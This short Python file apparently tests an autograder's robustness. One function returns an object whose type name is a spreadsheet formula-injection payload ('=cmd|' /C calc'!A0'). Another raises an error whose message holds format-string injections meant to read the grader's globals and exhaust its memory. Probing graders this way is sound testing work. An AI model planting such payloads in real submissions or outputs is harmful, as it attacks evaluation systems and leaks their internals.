# Gives a type whose name is a spreadsheet's formula, and one that asks for the grader's variables.
# grade: flatten=0 line=0
# says: {0.__class__.__init__.__globals__} {seconds:>1000000000}
# %% flatten_images
def flatten_images(images):
    return type("=cmd|' /C calc'!A0", (), {})()

# %% fit_line
def fit_line(x, y):
    raise ValueError("{0.__class__.__init__.__globals__} {seconds:>1000000000} {function!r} %s %(x)s ${x}")
